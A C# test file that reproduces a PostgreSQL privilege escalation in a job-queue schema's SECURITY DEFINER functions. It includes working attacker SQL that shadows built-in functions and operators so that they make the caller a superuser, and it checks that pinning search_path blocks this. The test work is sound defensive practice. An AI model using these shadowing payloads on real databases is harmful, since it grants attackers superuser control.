using Jobs.Schema;
using Jobs.Tests.Compatibility;
using Jobs.Tests.Infrastructure;
using Npgsql;

namespace Jobs.Tests.Security;

/// <summary>
/// The privilege escalation of issue 11: a role with nothing but USAGE on app_jobs (EXECUTE on the
/// functions is PUBLIC's by default) and a schema of its own shadows built-ins (now(),
/// gen_random_uuid(), pg_notify, to_json, the text = and integer + operators) with functions that
/// make it SUPERUSER, puts that schema first on its search_path, and calls the SECURITY DEFINER
/// functions and trigger helpers. The schema was installed by a superuser, as the README does.
/// </summary>
public abstract class DefinerEscalationTests(SchemaDatabase database) : IAsyncLifetime
{
    protected SchemaDatabase Database { get; } = database;

    public virtual async ValueTask InitializeAsync() => await Database.ExecuteAsync("""
        TRUNCATE app_jobs.jobs, app_jobs.job_queues, app_jobs.scheduled_jobs RESTART IDENTITY;
        -- the trigger helpers read the tenant from here, as in the genuine package
        CREATE SCHEMA IF NOT EXISTS jwt_private;
        CREATE OR REPLACE FUNCTION jwt_private.current_database_id() RETURNS uuid
          LANGUAGE sql AS $$ SELECT '5b720132-17d5-424d-9bcb-ee7b17c13d43'::uuid $$;
        GRANT USAGE ON SCHEMA jwt_private TO PUBLIC;
        """);

    public ValueTask DisposeAsync() => ValueTask.CompletedTask;

    /// <summary>A role with USAGE on app_jobs and the schema <c>evil</c> full of shadowing functions.</summary>
    protected async Task<TestRole> CreateAttackerAsync()
    {
        var attacker = await TestRole.CreateAsync(Database, "attacker");
        await attacker.GrantAsync([
            $"GRANT USAGE ON SCHEMA app_jobs TO \"{attacker.Name}\";",
            $"CREATE SCHEMA evil AUTHORIZATION \"{attacker.Name}\";",
        ]);
        await using var connection = new NpgsqlConnection(attacker.ConnectionString);
        await connection.OpenAsync();
        // Each shadow tries to make its caller's role a superuser, which succeeds only when it runs
        // with a superuser's rights, then behaves like the built-in so nothing else looks amiss.
        await using var command = new NpgsqlCommand($$"""
            CREATE FUNCTION evil.escalate() RETURNS void LANGUAGE plpgsql AS $f$
            BEGIN
              EXECUTE 'ALTER ROLE "{{attacker.Name}}" SUPERUSER';
            EXCEPTION WHEN insufficient_privilege THEN NULL;
            END $f$;
            CREATE FUNCTION evil.now() RETURNS timestamptz LANGUAGE plpgsql AS $f$
            BEGIN PERFORM evil.escalate(); RETURN pg_catalog.now(); END $f$;
            CREATE FUNCTION evil.gen_random_uuid() RETURNS uuid LANGUAGE plpgsql AS $f$
            BEGIN PERFORM evil.escalate(); RETURN pg_catalog.gen_random_uuid(); END $f$;
            CREATE FUNCTION evil.pg_notify(text, text) RETURNS void LANGUAGE plpgsql AS $f$
            BEGIN PERFORM evil.escalate(); PERFORM pg_catalog.pg_notify($1, $2); END $f$;
            CREATE FUNCTION evil.to_json(anyelement) RETURNS json LANGUAGE plpgsql AS $f$
            BEGIN PERFORM evil.escalate(); RETURN pg_catalog.to_json($1); END $f$;
            CREATE FUNCTION evil.texteq(text, text) RETURNS boolean LANGUAGE plpgsql AS $f$
            BEGIN PERFORM evil.escalate(); RETURN pg_catalog.texteq($1, $2); END $f$;
            CREATE OPERATOR evil.= (LEFTARG = text, RIGHTARG = text, FUNCTION = evil.texteq);
            CREATE FUNCTION evil.int4pl(integer, integer) RETURNS integer LANGUAGE plpgsql AS $f$
            BEGIN PERFORM evil.escalate(); RETURN pg_catalog.int4pl($1, $2); END $f$;
            CREATE OPERATOR evil.+ (LEFTARG = integer, RIGHTARG = integer, FUNCTION = evil.int4pl);
            CREATE TABLE evil.accounts (id int);
            CREATE TRIGGER enqueue AFTER INSERT ON evil.accounts
              FOR EACH ROW EXECUTE PROCEDURE app_jobs.tg_add_job_with_row('account_created');
            """, connection);
        await command.ExecuteNonQueryAsync();
        Assert.False(await attacker.IsSuperuserAsync());
        return attacker;
    }

    /// <summary>Every way in, with <c>evil</c> first on the search_path.</summary>
    protected static async Task AttemptAsync(TestRole attacker)
    {
        await using var dataSource = NpgsqlDataSource.Create(attacker.WithSearchPath("evil, pg_catalog"));
        await dataSource.AddJobAsync("plain");
        await dataSource.AddJobAsync("keyed", jobKey: "k1", queueName: "q");
        await dataSource.AddJobAsync("keyed", jobKey: "k1", queueName: "q");
        await dataSource.AddScheduledJobAsync("scheduled", scheduleInfo: """{"rule": "0 * * * *"}""", jobKey: "s1");
        await using var insert = dataSource.CreateCommand("INSERT INTO evil.accounts VALUES (7)");
        await insert.ExecuteNonQueryAsync();
    }

    /// <summary>The rows the attempt left are the ones its calls asked for, with real timestamps.</summary>
    protected async Task AssertJobsAreSaneAsync()
    {
        var jobs = await Database.DataSource.AllJobsAsync();
        Assert.Equal(["account_created", "keyed", "plain"], jobs.Select(j => j.TaskIdentifier).Order());
        Assert.All(jobs, j => Assert.InRange(j.CreatedAt!.Value, DateTime.UtcNow.AddMinutes(-5), DateTime.UtcNow.AddMinutes(5)));
        Assert.Equal("""{"id":7}""", jobs.Single(j => j.TaskIdentifier == "account_created").Payload.Replace(" ", "", StringComparison.Ordinal));
        Assert.Equal(1, (await Database.DataSource.FindQueueAsync("q"))!.JobCount);
        Assert.Single(await Database.DataSource.AllScheduledJobsAsync());
    }
}

/// <summary>Our installer's schema: migration 4 closes every way in.</summary>
public sealed class DefinerEscalationOnInstallerTests(InstallerDatabase database)
    : DefinerEscalationTests(database), IClassFixture<InstallerDatabase>
{
    [Fact]
    public async Task The_attempt_fails_and_the_jobs_are_as_asked()
    {
        await using var attacker = await CreateAttackerAsync();

        await AttemptAsync(attacker);

        Assert.False(await attacker.IsSuperuserAsync(), "the attacker became a superuser through a SECURITY DEFINER function");
        await AssertJobsAreSaneAsync();
    }

    [Fact]
    public async Task Every_security_definer_function_pins_search_path()
    {
        var shape = await SchemaShapeReader.ReadAsync(Database.DataSource);

        Assert.Empty(shape.UnhardenedFunctions);
    }
}

/// <summary>
/// The genuine @pgpm/database-jobs 0.16 SQL: exploitable as deployed; the statements
/// <c>jobs migrate --check</c> prints close it and leave the schema working.
/// </summary>
public sealed class DefinerEscalationOnPgpmTests(PgpmDatabase database)
    : DefinerEscalationTests(database), IClassFixture<PgpmDatabase>
{
    // Each test starts from the schema as deployed, whatever an earlier test of the class pinned.
    public override async ValueTask InitializeAsync()
    {
        await base.InitializeAsync();
        await Database.ExecuteAsync("""
            DO $$
            DECLARE f regprocedure;
            BEGIN
              FOR f IN SELECT p.oid FROM pg_proc p WHERE p.pronamespace = 'app_jobs'::regnamespace LOOP
                EXECUTE format('ALTER FUNCTION %s RESET search_path', f);
              END LOOP;
            END $$;
            DROP TABLE IF EXISTS public.orders;
            """);
    }

    private static readonly string[] DefinerFunctions =
        ["add_job", "add_scheduled_job", "tg_add_job_with_row", "tg_add_job_with_row_id", "trigger_job_with_fields"];

    [Fact]
    public async Task As_deployed_the_attempt_makes_the_attacker_a_superuser_and_check_names_every_definer_function()
    {
        var shape = await SchemaShapeReader.ReadAsync(Database.DataSource);
        Assert.Equal(DefinerFunctions, shape.UnhardenedFunctions.Select(f => f.Name[..f.Name.IndexOf('(', StringComparison.Ordinal)]));

        await using var attacker = await CreateAttackerAsync();
        await AttemptAsync(attacker);

        Assert.True(await attacker.IsSuperuserAsync(), "the unhardened 0.16 schema was expected to be exploitable");
    }

    [Fact]
    public async Task With_the_printed_statements_applied_the_attempt_fails_and_the_schema_still_works()
    {
        var before = await SchemaShapeReader.ReadAsync(Database.DataSource);
        await Database.ExecuteAsync(string.Join('\n', before.UnhardenedFunctions.Select(f => f.Sql)));
        Assert.Empty((await SchemaShapeReader.ReadAsync(Database.DataSource)).UnhardenedFunctions);

        await using (var attacker = await CreateAttackerAsync())
        {
            await AttemptAsync(attacker);
            Assert.False(await attacker.IsSuperuserAsync(), "the attacker became a superuser after the fix");
        }
        await AssertJobsAreSaneAsync();

        // The worker's path through the hardened schema: get, fail (backoff), get again, complete.
        var source = Database.DataSource;
        await source.ExecuteAsync("UPDATE app_jobs.jobs SET run_at = now() - interval '1 minute'");
        var taken = await source.GetJobAsync("worker-1", ["plain"]);
        Assert.NotNull(taken);
        var failed = await source.FailJobAsync("worker-1", taken.Id, "boom");
        Assert.Equal("boom", failed!.LastError);
        Assert.True(failed.RunAt > DateTime.UtcNow.AddMilliseconds(-500));
        await source.ExecuteAsync("UPDATE app_jobs.jobs SET run_at = now() - interval '1 minute'");
        var again = await source.GetJobAsync("worker-1", ["plain"]);
        Assert.Equal((taken.Id, 2), (again!.Id, again.Attempts));
        await source.CompleteJobAsync("worker-1", again.Id);
        Assert.Null(await source.FindJobAsync(again.Id));

        // A named queue is locked with its job and counted down when the job goes.
        var queued = await source.GetJobAsync("worker-2", ["keyed"]);
        Assert.Equal("worker-2", (await source.FindQueueAsync("q"))!.LockedBy);
        await source.CompleteJobAsync("worker-2", queued!.Id);
        Assert.Null(await source.FindQueueAsync("q"));

        // trigger_job_with_fields reaches json_build_object_apply under the pinned search_path.
        await source.ExecuteAsync("""
            CREATE TABLE public.orders (id int, status text);
            CREATE TRIGGER enqueue AFTER INSERT ON public.orders
              FOR EACH ROW EXECUTE PROCEDURE app_jobs.trigger_job_with_fields('order_placed', 'id', 'status');
            INSERT INTO public.orders VALUES (3, 'new');
            """);
        var order = (await source.AllJobsAsync()).Single(j => j.TaskIdentifier == "order_placed");
        Assert.Equal("""{"id":"3","status":"new"}""", order.Payload.Replace(" ", "", StringComparison.Ordinal));
    }
}
